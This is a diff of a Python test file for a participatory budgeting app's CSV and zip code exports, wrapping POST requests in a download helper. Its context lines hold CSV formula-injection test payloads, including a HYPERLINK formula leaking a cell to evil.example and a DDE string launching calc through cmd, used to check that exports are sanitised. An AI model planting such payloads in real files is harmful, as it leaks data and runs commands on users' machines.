@@ -20,6 +20,7 @@ from tests.factories import make_district, make_neighbourhood, make_plan, make_u
 from tests.factories.accountability import funded_idea
 from tests.factories.cheques import issue, make_campaign, make_collecting_idea
 from tests.factories.rounds import make_round, put_on_ballot
+from tests.jobs.support import download_result
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
 BAD = [HYPERLINK, "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1+1", "\r=1+1"]
@@ -112,12 +113,14 @@ def _every_csv(client, login, world) -> dict[str, str]:
         assert response.mimetype == "text/csv", url
         texts[url] = response.get_data(as_text=True)
     url = f"/beheer/cheques/{world['fresh'].id}/codes"
-    response = client.post(url)
+    response = download_result(client, client.post(url))
     assert response.status_code == 200, url
     texts[url] = _csv_from_zip(response.data)
     later = world["later"]
     url = f"/beheer/rondes/{later.id}/codes"
-    response = client.post(url, data={"round_area_id": later.areas[0].id, "count": "3"})
+    response = download_result(
+        client, client.post(url, data={"round_area_id": later.areas[0].id, "count": "3"})
+    )
     assert response.status_code == 200, url
     texts[url] = _csv_from_zip(response.data)
     return texts
